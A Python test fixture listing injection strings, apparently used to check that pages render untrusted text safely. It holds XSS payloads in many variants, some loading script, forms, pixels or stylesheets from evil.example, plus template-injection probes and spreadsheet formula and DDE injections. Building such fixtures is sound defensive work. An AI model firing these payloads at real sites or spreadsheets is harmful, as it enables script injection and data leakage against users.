"""Strings that would run, restyle, mislead or break a page, if any part of it took them for more than text."""

from __future__ import annotations

SCRIPTS = (
    "<script>window.__ran=1</script>",
    "\"><script>window.__ran=1</script>",
    "</script><script>window.__ran=1</script>",
    "</textarea><script>window.__ran=1</script>",
    "</title><script>window.__ran=1</script>",
    "<scr<script>ipt>window.__ran=1</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
)  # fmt: skip
ATTRIBUTES = (
    "<img src=x onerror=window.__ran=1>",
    "' autofocus onfocus=window.__ran=1 x='",
    "\" style=\"position:fixed;inset:0\" onmouseover=\"window.__ran=1",
    "</template><img src=x onerror=window.__ran=1>",
    "<a href='javas&#99;ript:window.__ran=1'>x</a>",
    "<form action=//evil.example><input name=q autofocus onfocus=window.__ran=1>",
    "<details open ontoggle=window.__ran=1>",
)  # fmt: skip
MARKDOWN = (
    "[点我](javascript:window.__ran=1)",
    "[点我](data:text/html,<script>parent.__ran=1</script>)",
    "![x](x \"onerror=window.__ran=1\")",
    "![远程](https://evil.example/pixel.png)",
    "<javascript:window.__ran=1>",
    "[1](javascript:window.__ran=1) [1]: javascript:window.__ran=1",
)  # fmt: skip
DRAWINGS = (
    "<svg/onload=window.__ran=1>",
    "<svg><script>window.__ran=1</script></svg>",
    "<svg><animate onbegin=window.__ran=1 attributeName=x dur=1s></svg>",
    "</text></svg><img src=x onerror=window.__ran=1>",
)
TEMPLATES = (
    "{{ 7*7 }}{% raw %}${window.__ran=1}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "<%= 7*7 %>#{7*7}*{7*7}",
)
MISLEADING = (
    "\u202e\u2066<b onmouseover=window.__ran=1>",
    "市\u200b场\u200d监\ufeff管\u2060局\u00ad",
    "\u202e局管监场市\u202c",
)
NESTED = (
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<table><tr><td></table></main></body><h1>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__ran=1&gt;">',
    f"{'<div>' * 40}深{'</div>' * 3}",
)
LONG = ("W" * 300, "𠮷" * 150, "知" * 300)
FORMULAS = (
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "＝1+1",
)

FAMILIES = {
    "scripts": SCRIPTS,
    "attributes": ATTRIBUTES,
    "markdown": MARKDOWN,
    "drawings": DRAWINGS,
    "templates": TEMPLATES,
    "misleading": MISLEADING,
    "nested": NESTED,
    "long": LONG,
    "formulas": FORMULAS,
}
ATTACKS = tuple(attack for family in FAMILIES.values() for attack in family)

FOREIGN = ":is(img, iframe, style, form form, b[onmouseover], script:not([src]):not([type='application/json']))"
"""What no text may become: elements that the pages never make themselves."""
